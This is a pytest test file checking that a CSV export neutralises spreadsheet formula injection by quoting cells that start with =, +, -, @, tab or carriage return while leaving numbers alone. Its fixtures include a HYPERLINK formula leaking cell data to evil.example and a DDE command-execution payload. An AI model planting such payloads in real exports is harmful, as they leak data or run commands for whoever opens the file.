"""CSV formula neutralisation: every text cell a spreadsheet would evaluate (it starts with `=`,
`+`, `-`, `@`, a tab or a carriage return) is written with a leading `'`; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tasks.export import HopRecord, neutralise, write_csv_log
from tasks.report import write_csv

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (LINK, "'" + LINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-3", "-3"),
        ("+4", "+4"),
        ("-0.25", "-0.25"),
        ("-1e-3", "-1e-3"),
        ("Corte Suprema de Justicia", "Corte Suprema de Justicia"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (-2.5, -2.5),
        (True, True),
    ],
)
def test_text_a_spreadsheet_would_evaluate_is_quoted_and_numbers_are_not(cell, written):
    assert neutralise(cell) == written
    assert type(neutralise(cell)) is type(written)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_report_csv_quotes_formulas_from_config_names_and_keeps_numbers(tmp_path):
    report: dict[str, Any] = {
        "tables": {
            "refusals": [
                {
                    "authority_name": LINK,
                    "ground": "@SUM(A1)",
                    "refusals": -3,
                    "share": 2.5,
                    "remaining": ["=transmit @ mjsp", "review @ csj"],
                    "note": None,
                }
            ]
        },
        "summary": {"scope": "+scope", "cases": -3, "execution_rate": 2.5},
        "headlines": ["=1+1 is not a headline", "A plain headline."],
    }
    write_csv(report, tmp_path)
    assert read_csv(tmp_path / "refusals.csv") == [
        ["authority_name", "ground", "refusals", "share", "remaining", "note"],
        ["'" + LINK, "'@SUM(A1)", "-3", "2.5", "'=transmit @ mjsp; review @ csj", ""],
    ]
    assert read_csv(tmp_path / "summary.csv") == [
        ["measure", "value"],
        ["scope", "'+scope"],
        ["cases", "-3"],
        ["execution_rate", "2.5"],
    ]
    assert read_csv(tmp_path / "headlines.csv") == [
        ["headline"],
        ["'=1+1 is not a headline"],
        ["A plain headline."],
    ]


def test_event_log_csv_quotes_formulas_in_step_holder_and_route_names():
    hop = HopRecord(
        reference="SV-2026-000001",
        country="SV",
        route="=route",
        hop=1,
        step="+review",
        holder="@csj",
        opened_at="2026-02-02T15:00:00.000000+00:00",
        closed_at=None,
        outcome=None,
    )
    stream = io.StringIO()
    assert write_csv_log([hop], stream) == 1
    stream.seek(0)
    rows = list(csv.DictReader(stream))
    assert (rows[0]["activity"], rows[0]["resource"], rows[0]["route"], rows[0]["hop"]) == (
        "SV =route: +review @ @csj",
        "'@csj",
        "'=route",
        "1",
    )
    assert rows[0]["timestamp"] == "2026-02-02T15:00:00.000000+00:00"
